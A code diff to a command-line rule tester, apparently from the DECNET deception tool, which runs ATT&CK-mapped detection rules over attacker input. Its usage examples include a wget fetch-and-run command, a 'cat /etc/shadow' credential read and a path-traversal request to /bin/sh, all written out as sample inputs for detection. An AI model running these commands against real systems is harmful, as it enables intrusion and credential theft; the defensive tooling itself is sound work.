@@ -16,13 +16,14 @@ export default class RulesTest extends DecnetCommand {
     input: Args.string({description: 'A command as an attacker typed it, an HTTP request (GET /path HTTP/1.1, then optional header lines), or a whole DECNET log line (<PRI>1 TIMESTAMP ...); - reads it from standard input.', required: true}),
   }
 
-  static override description = `Runs the active rules (the shipped pack and --rules-dir) over one input and prints the rules that fire, their techniques with names and tactics from the ATT&CK catalog in use, and the evidence each would store. An HTTP request is read as the http rules read a request event: its request line, then header lines (Name: value), then a blank line and the body. A whole DECNET log line is read as the ttp worker reads a stored one (its command found in its fields or message, its HTTP request in a request event). Nothing is written.`
+  static override description = `Runs the active rules (the shipped pack and --rules-dir) over one input and prints the rules that fire, their techniques with names and tactics from the ATT&CK catalog in use, and the evidence each would store. An HTTP request is read as the http rules read a request event: its request line, then header lines (Name: value), then a blank line and the body. A whole DECNET log line is read as the ttp worker reads a stored one (its command found in its fields or message, its HTTP request in a request event, and the database command, mail, captured file or network sensor event it describes). Nothing is written.`
 
   static override enableJsonFlag = true
   static override examples = [
     `<%= config.bin %> <%= command.id %> 'cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh'`,
     `<%= config.bin %> <%= command.id %> '<134>1 2026-11-26T13:32:51Z decky-01 ssh - command [relay@55555 src_ip="203.0.113.7" command="cat /etc/shadow"]' --json`,
     `<%= config.bin %> <%= command.id %> 'GET /cgi-bin/.%2e/.%2e/.%2e/bin/sh HTTP/1.1'`,
+    `<%= config.bin %> <%= command.id %> '<134>1 2026-11-26T13:32:51Z db-02 ssh - file_captured [relay@55555 sha256="5d41402abc4b2a76b9719d911017c592aa11bb22cc33dd44ee55ff6677889900" size="412" orig_path="/tmp/x.sh" src_ip="198.51.100.23" writer_comm="wget"]'`,
     'tail -n 1 /var/log/decnet.log | <%= config.bin %> <%= command.id %> -',
   ]
 
